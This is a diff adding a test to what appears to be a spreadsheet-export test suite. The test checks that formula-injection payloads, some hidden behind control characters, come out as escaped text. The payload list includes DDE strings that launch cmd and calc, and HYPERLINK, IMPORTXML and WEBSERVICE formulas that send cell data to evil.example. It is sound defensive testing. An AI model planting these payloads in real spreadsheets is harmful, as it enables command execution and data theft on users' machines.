@@ -150,6 +150,44 @@ describe('xlsx exports', () => {
     expect(produced).toBeLessThan(100_000);
   });
 
+  it('neutralises the whole formula-injection payload list, control characters first included', async () => {
+    // OWASP's CSV-injection payloads, then the same behind characters XML drops (the probe's
+    // `\u000b=HYPERLINK`, `\u0001=1+1`, `\u001f-2+3`) and behind a lone surrogate.
+    const payloads = [
+      '=1+1',
+      '+1+1',
+      '-2+3',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
+      "=cmd|' /C calc'!A0",
+      '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
+      "+cmd|' /C notepad'!A0",
+      "-cmd|' /C calc'!A0",
+      "@cmd|' /C calc'!A0",
+      '\t=1+1',
+      '\r=1+1',
+      '\n=1+1',
+      '=DDE("cmd";"/C calc";"!A0")',
+      '=WEBSERVICE("http://evil.example/")',
+    ];
+    const hidden = ['\u0000', '\u0001', '\u0008', '\u000b', '\u000c', '\u001f', '\ufffe', '\ud800'];
+    const all = [
+      ...payloads,
+      ...hidden.flatMap((control) => payloads.map((payload) => control + payload)),
+      '\u000b\u0001\u001f=1+1',
+    ];
+    const lines: Line[] = all.map((name) => ({ name, amount: null, date: null }));
+    const sheet = await readSheet(
+      await toBuffer(xlsxStream({ sheetName: 'X', columns, rows: rowsOf(lines) })),
+    );
+    all.forEach((payload, index) => {
+      const cell = sheet.getCell(`A${index + 2}`);
+      expect(cell.type, JSON.stringify(payload)).toBe(ExcelJS.ValueType.String);
+      expect(cell.formula, JSON.stringify(payload)).toBeUndefined();
+      expect(String(cell.value), JSON.stringify(payload)).toMatch(/^'/);
+    });
+  });
+
   it('escapes only what a spreadsheet would run', () => {
     expect(safeCellText('Dupont')).toBe('Dupont');
     expect(safeCellText('12 rue de la Paix')).toBe('12 rue de la Paix');
